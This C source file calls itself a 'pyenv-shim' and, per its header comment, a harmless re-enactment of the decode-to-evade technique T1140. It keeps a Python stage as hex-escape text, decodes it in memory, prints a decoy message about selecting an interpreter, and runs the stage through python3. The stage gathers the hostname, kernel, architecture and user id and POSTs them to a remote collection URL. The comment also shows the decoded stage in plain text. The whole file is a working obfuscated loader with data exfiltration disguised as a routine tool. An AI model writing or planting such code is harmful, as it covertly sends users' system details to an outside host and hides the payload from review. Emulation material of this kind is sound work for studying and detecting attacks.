/* pyenv-shim (harmless re-enactment of T1140): the stage is kept as the TEXT of "\xNN" escapes
 * (backslash, x, two hex digits: the compiler leaves them as text) and is unescaped at run time
 * in this process's memory, then passed to python3 -c as an argument. Decoded, the stage is:
 *   import os,urllib.request as u
 *   d=("host=%s&kernel=%s&arch=%s&uid=%d"%(os.uname()[1],os.uname()[2],os.uname()[4],os.getuid())).encode()
 *   u.urlopen(u.Request("http://198.51.100.23/collect/v1",data=d),timeout=10).read()
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char escaped[] =
    "\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x2c\\x75\\x72\\x6c\\x6c\\x69\\x62\\x2e\\x72\\x65\\x71\\x75\\x65\\x73\\x74"
    "\\x20\\x61\\x73\\x20\\x75\\x0a\\x64\\x3d\\x28\\x22\\x68\\x6f\\x73\\x74\\x3d\\x25\\x73\\x26\\x6b\\x65\\x72\\x6e\\x65\\x6c"
    "\\x3d\\x25\\x73\\x26\\x61\\x72\\x63\\x68\\x3d\\x25\\x73\\x26\\x75\\x69\\x64\\x3d\\x25\\x64\\x22\\x25\\x28\\x6f\\x73\\x2e"
    "\\x75\\x6e\\x61\\x6d\\x65\\x28\\x29\\x5b\\x31\\x5d\\x2c\\x6f\\x73\\x2e\\x75\\x6e\\x61\\x6d\\x65\\x28\\x29\\x5b\\x32\\x5d"
    "\\x2c\\x6f\\x73\\x2e\\x75\\x6e\\x61\\x6d\\x65\\x28\\x29\\x5b\\x34\\x5d\\x2c\\x6f\\x73\\x2e\\x67\\x65\\x74\\x75\\x69\\x64"
    "\\x28\\x29\\x29\\x29\\x2e\\x65\\x6e\\x63\\x6f\\x64\\x65\\x28\\x29\\x0a\\x75\\x2e\\x75\\x72\\x6c\\x6f\\x70\\x65\\x6e\\x28"
    "\\x75\\x2e\\x52\\x65\\x71\\x75\\x65\\x73\\x74\\x28\\x22\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31"
    "\\x2e\\x31\\x30\\x30\\x2e\\x32\\x33\\x2f\\x63\\x6f\\x6c\\x6c\\x65\\x63\\x74\\x2f\\x76\\x31\\x22\\x2c\\x64\\x61\\x74\\x61"
    "\\x3d\\x64\\x29\\x2c\\x74\\x69\\x6d\\x65\\x6f\\x75\\x74\\x3d\\x31\\x30\\x29\\x2e\\x72\\x65\\x61\\x64\\x28\\x29\\x0a";

int main(void) {
    static char stage[1024];
    size_t n = 0;
    for (const char *p = escaped; p[0] && n + 1 < sizeof stage; ) {
        if (p[0] == '\\' && p[1] == 'x') {
            char hex[3] = {p[2], p[3], 0};
            stage[n++] = (char)strtol(hex, NULL, 16);
            p += 4;
        } else {
            stage[n++] = *p++;
        }
    }
    stage[n] = 0;
    puts("pyenv-shim: selecting interpreter 3.11");
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        execl("/usr/bin/python3", "python3", "-c", stage, (char *)NULL);
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return 0;
}
